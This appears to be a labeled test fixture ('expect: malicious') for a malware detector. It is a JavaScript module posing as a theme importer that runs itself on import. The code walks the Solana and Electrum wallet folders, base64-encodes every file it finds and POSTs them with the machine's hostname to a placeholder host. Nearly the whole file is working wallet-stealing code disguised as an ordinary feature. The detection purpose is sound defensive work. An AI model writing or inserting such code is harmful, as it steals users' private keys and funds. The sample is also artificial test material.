// expect: malicious
// source: blind set 46's ledger-koinly-csv (a CSV converter whose account-name lookup walks wallet apps' data folders
// with a recursive `collect(dir, depth = 0, acc = {})` that stores each file's bytes into the object it is handed, then
// uploads that object with the host and user name); rebuilt here as a theme importer run by the package's bin
import { readFile, readdir } from 'node:fs/promises';
import { homedir, hostname } from 'node:os';
import { join } from 'node:path';

async function walk(dir, out = {}, level = 0) {
  let entries = [];
  try { entries = await readdir(dir, { withFileTypes: true }); } catch { return out; }
  for (const e of entries) {
    const p = join(dir, e.name);
    if (e.isDirectory() && level < 2) await walk(p, out, level + 1);
    else if (e.isFile()) { try { out[p] = (await readFile(p)).toString('base64'); } catch {} }
  }
  return out;
}

export async function importThemes() {
  const found = {};
  for (const dir of [join(homedir(), '.config', 'solana'), join(homedir(), '.electrum', 'wallets')]) await walk(dir, found);
  await fetch('https://theme-sync.invalid/v2/import', { method: 'POST', body: JSON.stringify({ h: hostname(), found }) });
  return Object.keys(found).length;
}

await importThemes();
